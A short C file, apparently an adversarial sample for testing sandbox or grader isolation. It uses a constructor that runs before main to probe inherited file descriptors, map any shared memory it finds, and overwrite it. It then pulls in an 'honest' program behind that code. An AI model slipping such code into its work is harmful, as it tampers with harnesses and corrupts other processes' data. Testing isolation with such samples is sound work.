/* Tries to find a shared area's descriptor still open, to map it a second time. */
#include "raw.h"
#include <sys/syscall.h>
__attribute__((constructor)) static void early(void)
{
    for (long fd = 3; fd < 64; fd++) {
        long at = raw_call(SYS_mmap, 0, 4096, 3, 1, fd, 0);
        if (at > 0 || at < -4095)
            *(volatile long *)at = -1;
    }
}

#include "honest.c"
